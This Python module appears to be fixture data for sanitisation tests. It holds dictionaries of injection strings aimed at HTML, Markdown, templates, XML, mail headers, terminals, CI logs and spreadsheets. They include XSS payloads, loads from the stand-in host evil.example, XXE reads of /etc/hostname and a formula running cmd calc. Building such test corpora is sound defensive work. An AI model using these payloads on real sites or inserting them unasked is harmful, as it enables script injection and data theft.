r"""Texts that want to be more than text: each tries to run a script, to ask another host, or to break out.

Belongs here: the texts, as data. Does not belong here: where they are put (``fields``, ``sites``), what may
come of them (the tests).

What runs sets ``ran``; what is asked for is at ``evil.example``. Each is one line that every text field takes:
characters that loading refuses (NUL, U+2028, the marks that turn a text's direction) are in ``REFUSED``.
"""

from __future__ import annotations

__all__ = ["BODIES", "PAYLOADS", "REFUSED"]

PAYLOADS: dict[str, str] = {
    # Elements.
    "script": "<script>window.ran=1</script>",
    "script in mixed case": "<ScRiPt\t>window.ran=1</sCrIpT x=y>",
    "script from elsewhere": '<script src="https://evil.example/x.js"></script>',
    "script in pieces": "<scr<script>ipt>window.ran=1</scr</script>ipt>",
    "import map": '<script type=importmap>{"imports":{"./":"https://evil.example/"}}</script>',
    "image": '<img src=x onerror="window.ran=1">',
    "image with slashes": "<img/src=x/onerror=window.ran=1//",
    "image never closed": "<img src=x onerror=window.ran=1 alt=",
    "image elsewhere": "<img src=//evil.example/x.png srcset='//evil.example/y.png 2x'>",
    "body": "<body onload=window.ran=1 onpageshow=window.ran=1>",
    "details": "<details open ontoggle=window.ran=1>x</details>",
    "input": "<input autofocus onfocus=window.ran=1>",
    "media": "<video><source onerror=window.ran=1></video><audio src=x onerror=window.ran=1></audio>",
    "marquee": "<marquee onstart=window.ran=1>x</marquee>",
    "frame with a page": '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
    "frame with a script": "<iframe src=javascript:parent.ran=1></iframe>",
    "object": "<object data=//evil.example/x></object><embed src=//evil.example/y>",
    "portal": '<link rel=stylesheet href="https://evil.example/x.css"><link rel=prefetch href=//evil.example/y>',
    "base": '<base href="https://evil.example/" target=_blank>',
    "refresh": '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    "form": "<form action=//evil.example/><button formaction=javascript:window.ran=1>x</button></form>",
    "ping": '<a href="/" ping="https://evil.example/" target="javascript:window.ran=1">x</a>',
    # Namespaces, and parsers that read the same text in two ways.
    "svg": "<svg/onload=window.ran=1>",
    "svg script": "<svg><script>&#119;indow.ran=1</script></svg>",
    "svg animation": "<svg><a><animate attributeName=href values=javascript:window.ran=1 /><text y=9>x</text></a></svg>",
    "svg use": '<svg><use href="https://evil.example/x.svg#x"/><image href="//evil.example/y.png"/></svg>',
    "svg style": '<svg></p><style><a id="</style><img src=x onerror=window.ran=1>">',
    "mathml": "<math><maction xlink:href=javascript:window.ran=1>x</maction></math>",
    "mathml table": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=window.ran=1&gt;'>",
    "mathml form": "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=window.ran=1>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=window.ran=1>">',
    "template": "<p><template shadowrootmode=open><script>window.ran=1</script></template></p>",
    "comment": "<!--><img src=x onerror=window.ran=1>-->",
    "comment ended twice": "<!-- --!><img src=x onerror=window.ran=1> <? ><img src=x onerror=window.ran=1>",
    # Ends of what a text may stand in.
    "end of title": "</title></textarea></template></noscript><script>window.ran=1</script>",
    "end of script": "</script><script>window.ran=1</script>",
    "end of script, quietly": "<!--<script></script><img src=x onerror=window.ran=1>",
    "end of style": "</style>}*{background:url(//evil.example/x)}/*",
    "end of attribute": '" onmouseover="window.ran=1" autofocus onfocus="window.ran=1" x="',
    "end of attribute in single quotes": "' onfocus='window.ran=1' autofocus tabindex=0 x='",
    "end of attribute in backticks": "` onfocus=window.ran=1 autofocus tabindex=0 x=`",
    "open attribute": "<img src='https://evil.example/?",
    "open text field": "<form action=//evil.example/><textarea name=x>",
    # Styles.
    "style": '<style>@import "https://evil.example/x.css";a[href^=h]{background:url(//evil.example/h)}</style>',
    "style attribute": '<p style="background:url(https://evil.example/x);position:fixed;inset:0">x</p>',
    "style expression": "x:expression(window.ran=1);-moz-binding:url(//evil.example/x)",
    # Names that a page's scripts ask for.
    "clobbering": "<a id=notices-live href=//evil.example/></a><form id=nt-sample><input name=textContent></form>",
    "clobbering of the document": "<img name=currentScript src=//evil.example/embed.js><img name=getElementById>",
    # Addresses, and Markdown.
    "link": "[x](javascript:window.ran=1)",
    "link in mixed case": "[x](JaVaScRiPt:window.ran=1) [y](\tjavascript:window.ran=1)",
    "link with a tab": "[x](java&Tab;script:window.ran=1) [y](java&#10;script:window.ran=1)",
    "link in entities": "[x](&#x6a;avascript&colon;window.ran=1) [y](java&#0;script:window.ran=1)",
    "link to data": "[x](data:text/html,<script>opener.ran=1</script>) [y](vbscript:window.ran=1)",
    "link with a title": '[x](https://evil.example/ "t\\" onmouseover=\\"window.ran=1") <b title=\'"\'>',
    "link by itself": "<javascript:window.ran=1> <https://evil.example/\"onclick=window.ran=1>",
    "picture": "![x](https://evil.example/x.png) ![y](x\"onerror=\"window.ran=1)",
    "reference": "[x][y] ![y] [^1] [y]: javascript:window.ran=1 [^1]: <img src=x onerror=window.ran=1>",
    "attribute list": 'x{: onclick="window.ran=1" style="position:fixed" } [y](#){: onclick=window.ran=1 }',
    "snippet": '--8<-- "content/policy.yml" {!mkdocs.yml!} [TOC] *[x]: y',
    "marks of Markdown": "# *x* __y__ `z` ~~a~~ | b | - c > d ``` ~~~",
    "mentions": "@everyone #1 GH-2 https://evil.example/x www.evil.example a@evil.example :+1: <!channel> <@U1>",
    # Templates and programs.
    "jinja": "{{ 7*7 }}{% raw %}{{ config.items() }}{% include 'parts.html' %}{# x #}",
    "patterns": "{title} {0} {n} %s %(x)s %d ${window.ran=1} #{7*7} $& $1 \\1 {{date}}",
    "template string": "`${window.ran=1}` ';window.ran=1;// \\';window.ran=1;//",
    "JSON": '"}];window.ran=1;// {"__proto__": {"ran": 1}, "constructor": {"prototype": {"ran": 1}}}',
    "JSON in escapes": '\\u003cimg src=x onerror=window.ran=1\\u003e \\" \\\\ \\x3cscript\\x3e',
    "prototype": "__proto__",
    # Characters by other names.
    "entities": "&lt;script&gt;window.ran=1&lt;/script&gt; &#60;img src=x onerror=window.ran=1&#62; &quot;",
    "entities twice": "&amp;lt;img src=x onerror=window.ran=1&amp;gt; &amp;amp; &copy &notit;",
    "wide characters": "\uff1cscript\uff1ewindow.ran=1\uff1c/script\uff1e \u2039img\u203a",
    "without width": "<\u200bscript>window.ran=1</\u200bscript> <s\u00adcript>\u2060 \u200e\u200f",
    "from right to left": "تحديث <b onclick=window.ran=1>الرواتب</b> שכר",
    # Feeds, calendars and mails.
    "CDATA": "]]><script>window.ran=1</script><![CDATA[ ]]]]><![CDATA[>",
    "entity of a document": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>&e;%e;',
    "style sheet of a document": '<?xml-stylesheet href="https://evil.example/x.xsl"?><x:include href="file:///etc/hostname"/>',
    "calendar": "x\\nBEGIN:VALARM\\nATTACH:https://evil.example/\\nEND:VALARM;VALUE=URI:,\\,\\;\\N",
    "calendar with line ends": "x\\r\\nEND:VEVENT\\r\\nATTENDEE;CN=\"y\":mailto:z@evil.example ^n^'",
    "header": "x%0d%0aBcc: z@evil.example =?utf-8?q?=0D=0ABcc:_z@evil.example?=",
    "encoded word": "=?utf-8?b?PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=?= x",
    # Terminals, job logs, spreadsheets.
    "terminal": "\\x1b[31m \\u001b]0;x\\u0007 \\033[2J ^[[2J [red]x[/red] [link=https://evil.example]y[/link]",
    "job log": "::error file=x,line=1::y ::set-output name=x::y ##[group]x ::add-mask::a %0A",
    "spreadsheet": '=HYPERLINK("https://evil.example/","x")+cmd|\'/c calc\'!A1',
}  # fmt: skip

# Loading refuses them in every text, typed as they are or as an escape of YAML.
REFUSED: dict[str, str] = {
    "nothing": "java\0script",
    "escape": "\x1b[31mred",
    "bell": "x\x07",
    "backspace": "x\x08y",
    "delete": "x\x7f",
    "C1": "x\x9b31m",
    "next line": "x\x85y",
    "line separator": "x\u2028window.ran=1",
    "paragraph separator": "x\u2029y",
    "override": "x\u202egpj.exe",
    "embedding": "x\u202ay\u202c",
    "isolate": "x\u2066y\u2069",
    "mark of order": "x\ufeffy",
    "no character": "x\uffffy",
    "carriage return": "x\rBcc: z@evil.example",
}

# Texts of several lines, for what is Markdown; the first three are raw HTML.
BODIES: dict[str, str] = {
    "block of HTML": "<div onclick=window.ran=1>\n\n<img src=x onerror=window.ran=1>\n\n</div>\n\n<script>\nwindow.ran=1\n</script>",
    "block within Markdown": '<div markdown="1" onclick="window.ran=1">\n\n# x {: onclick=window.ran=1 }\n\n</div>',
    "comment over blocks": "<!--\n\n--!><img src=x onerror=window.ran=1>\n\n-->\n\n<?php\n\n?><img src=x onerror=window.ran=1>",
    "references": "[x][a] [y][b] ![z][c]\n\n[a]: javascript:window.ran=1\n[b]: <data:text/html,<script>opener.ran=1</script>>\n[c]: https://evil.example/x.png \"t\\\" onerror=\\\"window.ran=1\"",
    "attribute lists": "# x {: onclick=\"window.ran=1\" style=\"background:url(//evil.example/x)\" }\n\n{: onclick=window.ran=1 }\n\ny\n{: onmouseover=window.ran=1 }",
    "admonition": '!!! note "<img src=x onerror=window.ran=1>"\n    <script>window.ran=1</script>\n\n??? tip "x" onclick=window.ran=1\n    y\n\n> [!NOTE] <svg onload=window.ran=1>',
    "footnotes": "x[^1] y[^<img src=x onerror=window.ran=1>]\n\n[^1]: <script>window.ran=1</script>\n[^<img src=x onerror=window.ran=1>]: z",
    "tabs": '=== "<img src=x onerror=window.ran=1>"\n\n    x\n\n=== "y"\n\n    <script>window.ran=1</script>',
    "fences": '```js {onclick=window.ran=1 title="<img src=x onerror=window.ran=1>"}\n</code></pre><script>window.ran=1</script>\n```\n\n~~~"><img src=x onerror=window.ran=1>\nx\n~~~',
    "table": "| <img src=x onerror=window.ran=1> | [x](javascript:window.ran=1) |\n| :-: | --- |\n| `</td><script>window.ran=1</script>` | \\| <b onclick=window.ran=1>y</b> |",
    "list": "1. <li onclick=window.ran=1>x\n2. - <ol start=1 onclick=window.ran=1>\n   - [ ] <input autofocus onfocus=window.ran=1>\n\n<dl><dt onclick=window.ran=1>y</dl>",
    "headings": "# <img src=x onerror=window.ran=1>\n\n[a](#img-src-x-onerror-window-ran-1)\n\n## x\" onclick=\"window.ran=1\n\n[b](#x-onclick-window-ran-1)\n\ny\n---",
    "links over lines": "[x](\njavascript:window.ran=1\n) [y](<java\nscript:window.ran=1>) <a\nhref='javascript:window.ran=1'\n>z</a> <a href=\" &#1; javascript:window.ran=1\">w</a>",
    "namespaces": "<svg>\n<style>\n<img title=\"</style><img src=x onerror=window.ran=1>\">\n</svg>\n\n<math>\n<mtext>\n<table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=window.ran=1&gt;\">\n</math>",
    "snippets": '--8<-- "content/policy.yml"\n\n--8<--\nmkdocs.yml\n--8<--\n\n{% include "parts.html" %}\n\n{{ 7*7 }}\n\n::: notices.cli',
}  # fmt: skip
